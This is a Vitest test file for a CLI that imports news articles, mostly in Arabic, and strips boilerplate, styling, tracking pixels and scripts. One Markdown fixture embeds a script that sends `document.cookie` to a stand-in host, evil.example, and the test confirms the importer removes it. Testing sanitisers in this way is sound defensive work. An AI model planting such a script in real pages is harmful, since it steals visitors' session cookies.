import { readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { ImportReport } from '../../electron/cli/import-command'
import { Article } from '../../shared/articles/article-schema'
import type { DocNode } from '../../shared/articles/doc-schema'
import { docToPlainText } from '../../shared/doc/doc-text'
import { buildDocx } from '../fixtures/import/build-docx'
import { png } from '../support/test-images'
import { setUpMidadCli } from './fixtures/cli'
import { createTempDirs, repoRoot, snapshotDir } from './fixtures/data-dir'

const tempDir = createTempDirs()
const midad = setUpMidadCli('midad-import-cli-home-').run

const nodes = (root: DocNode): DocNode[] => [root, ...(root.content ?? []).flatMap(nodes)]
const TITLE = 'ارتفاع أسعار الذهب في الأسواق المحلية مع تراجع الدولار'

async function stored(dataDir: string, id: string): Promise<Article> {
  return Article.parse(JSON.parse(await readFile(join(dataDir, 'articles', `${id}.json`), 'utf8')))
}

/** Imports `file` with --json into a fresh data directory; the report and the stored article. */
async function importJson(file: string) {
  const dataDir = await tempDir()
  const { code, stdout, stderr } = midad('import', file, '--json', '--data-dir', dataDir)
  expect(code, stderr).toBe(0)
  const report = JSON.parse(stdout) as ImportReport
  return { dataDir, report, article: await stored(dataDir, report.id) }
}

describe('midad import of a scraped WordPress post', () => {
  const page = join(repoRoot, 'tests/fixtures/scraped/gold-prices.html')

  it('--json lists the removed boilerplate with reasons; the article holds only the story', async () => {
    const { report, article } = await importJson(page)
    expect(report.title).toBe(TITLE)
    expect(article.title).toBe(TITLE)
    const expected: [string, string][] = [
      ['theme-control', 'الرئيسية سياسة اقتصاد'],
      ['theme-control', 'القائمة'],
      ['theme-control', 'بحث'],
      ['repeated-title', 'الرئيسية » اقتصاد » ارتفاع'],
      ['fragment', 'الأحد 12 مايو 2024 تعليق'],
      ['share', 'مشاركة فيسبوك تويتر واتساب'],
      ['related', 'اقـرأ أيضـاً: البنك'],
      ['related', 'مواضيع ذات صلة'],
      ['related', 'البنك المركزي يثبت'],
      ['comment-form', 'اترك تعليقاً إلغاء الرد'],
      ['theme-control', 'زر الذهاب إلى الأعلى'],
      ['theme-control', 'إغلاق'],
      ['theme-control', 'جميع الحقوق محفوظة ©'],
    ]
    expect(report.removed.map((entry) => entry.reason)).toEqual(expected.map(([reason]) => reason))
    report.removed.forEach((entry, i) => {
      expect(entry.text.startsWith(expected[i]?.[1] ?? '?'), entry.text).toBe(true)
    })
    expect(report.removed.map((entry) => entry.id)).toEqual(
      report.removed.map((entry) => `removed-${entry.index}`),
    )
    const blocks = (article.body.content ?? []).map((block) => docToPlainText(block))
    expect(blocks).toHaveLength(6)
    expect(blocks[0]).toMatch(/^القاهرة – ارتفعت أسعار الذهب/)
    expect(blocks).toContain('توقعات الأسابيع المقبلة')
    expect(blocks).toContain('«الناس تشتري الآن خوفاً من الغد»')
    expect(blocks.join('\n')).not.toMatch(/فيسبوك|أيضـاً|اترك تعليق|الأعلى|الحقوق|القائمة|ذات صلة/)
    expect(report.images).toEqual({ stored: 0, skipped: [] })
  })

  it('without --json prints only the id on stdout, and the removal count on stderr', async () => {
    const dataDir = await tempDir()
    const { code, stdout, stderr } = midad('import', page, '--data-dir', dataDir)
    expect(code).toBe(0)
    const id = stdout.trim()
    expect(stdout).toBe(`${id}\n`)
    expect((await stored(dataDir, id)).title).toBe(TITLE)
    expect(stderr).toMatch(/^Removed 13 blocks of boilerplate: theme-control ×6, .*related ×3/)
  })
})

describe('midad import of each format', () => {
  it('text whose first line is the site menu: the headline becomes the title', async () => {
    const file = join(await tempDir(), 'pasted.txt')
    const story =
      'قررت لجنة السياسة النقدية في البنك المركزي الإبقاء على أسعار الفائدة دون تغيير للمرة الثالثة على التوالي، في ظل تراجع معدلات التضخم.'
    await writeFile(file, `القائمة\nبحث\nالمركزي يثبت أسعار الفائدة\n${story}\nشارك\nاترك تعليقاً\n`)
    const { report, article } = await importJson(file)
    expect(article.title).toBe('المركزي يثبت أسعار الفائدة')
    expect(docToPlainText(article.body)).toBe(story)
    expect(report.removed.map((entry) => entry.text)).toEqual([
      'القائمة',
      'بحث',
      'شارك',
      'اترك تعليقاً',
    ])
  })

  it('HTML with a tracking pixel and inline styles: neither reaches the article', async () => {
    const file = join(await tempDir(), 'styled.html')
    await writeFile(
      file,
      `<h1 style="font-size:40px">افتتاح معرض الكتاب</h1>
      <p style="color:#c00;text-align:justify">افتتح وزير الثقافة <span style="font-weight:bold">معرض الكتاب</span> بمشاركة ثلاثمئة دار نشر.</p>
      <img src="https://www.facebook.com/tr?id=42&amp;ev=PageView" height="1" width="1" style="display:none">
      <img src="https://stats.news.example/p.gif" width="1" height="1" alt="">`,
    )
    const { report, article } = await importJson(file)
    expect(article.title).toBe('افتتاح معرض الكتاب')
    expect(docToPlainText(article.body)).toBe(
      'افتتح وزير الثقافة معرض الكتاب بمشاركة ثلاثمئة دار نشر.',
    )
    expect(JSON.stringify(article.body)).not.toMatch(/style|color|justify|facebook|stats|img/)
    expect(report.images).toEqual({ stored: 0, skipped: [] })
  })

  it('Markdown: structure kept, raw <script> gone, the remote image reported', async () => {
    const file = join(await tempDir(), 'budget.md')
    await writeFile(
      file,
      `# الحكومة تقر الموازنة\n\nأقرت الحكومة مشروع الموازنة العامة.\n\n## البنود\n\n- التعليم\n- الصحة\n\n> «موازنة متوازنة»\n\n[البيان](https://mof.example.gov/b)\n\n<script>fetch("https://evil.example/?c="+document.cookie)</script>\n\n![الوزير](https://cdn.example.com/m.jpg)\n`,
    )
    const { report, article } = await importJson(file)
    expect(article.title).toBe('الحكومة تقر الموازنة')
    const types = nodes(article.body).map((node) => node.type)
    expect(types).toEqual(expect.arrayContaining(['heading', 'bulletList', 'blockquote']))
    expect(JSON.stringify(article.body)).toContain('https://mof.example.gov/b')
    expect(JSON.stringify(article.body)).not.toMatch(/script|evil|cookie|fetch/)
    expect(report.images.skipped).toEqual([
      { src: 'https://cdn.example.com/m.jpg', alt: 'الوزير', reason: 'remote' },
    ])
  })

  it('DOCX made here: its picture is stored as media, the pixel dropped', async () => {
    const dir = await tempDir()
    const file = join(dir, 'report.docx')
    await writeFile(
      file,
      await buildDocx([
        { p: 'افتتاح مستشفى جديد في المدينة', style: 'Title' },
        {
          p: 'افتتح محافظ المدينة اليوم مستشفى جديداً بسعة مئتي سرير، ويخدم أكثر من نصف مليون نسمة.',
        },
        { image: png(6, 4), alt: 'المحافظ يقص الشريط' },
        { image: png(1, 1), alt: '' },
        { link: 'موقع المحافظة', href: 'https://gov.example/news', before: 'المصدر: ' },
      ]),
    )
    const { dataDir, report, article } = await importJson(file)
    expect(article.title).toBe('افتتاح مستشفى جديد في المدينة')
    expect(report.images).toEqual({ stored: 1, skipped: [] })
    const figures = nodes(article.body).filter((node) => node.type === 'figure')
    expect(figures.map((figure) => figure.attrs?.alt)).toEqual(['المحافظ يقص الشريط'])
    const src = String(figures[0]?.attrs?.src)
    expect(src).toMatch(/^media\/[0-9a-f]{64}\.png$/)
    expect(await readdir(join(dataDir, 'media'))).toEqual([src.slice('media/'.length)])
    expect(JSON.stringify(article.body)).not.toContain('data:')
  })
})

describe('bad input leaves nothing behind', () => {
  const cases: [string, string | Buffer, RegExp][] = [
    ['broken.docx', 'PK not really a zip', /broken\.docx is not a Word document/],
    ['notes.rtf', '{\\rtf1 عنوان}', /\.txt or \.html file, Markdown \(\.md\) or a Word document/],
    ['empty.md', '<script>alert(1)</script>\n', /no text/],
  ]
  it.each(cases)('%s exits 2 with a clear message', async (name, content, message) => {
    const dataDir = await tempDir()
    expect(midad('list', '--data-dir', dataDir).code).toBe(0)
    const before = await snapshotDir(dataDir)
    const file = join(await tempDir(), name)
    await writeFile(file, content)
    const { code, stdout, stderr } = midad('import', file, '--json', '--data-dir', dataDir)
    expect(code).toBe(2)
    expect(stdout).toBe('')
    expect(stderr).toMatch(message)
    expect(await snapshotDir(dataDir)).toEqual(before)
  })
})
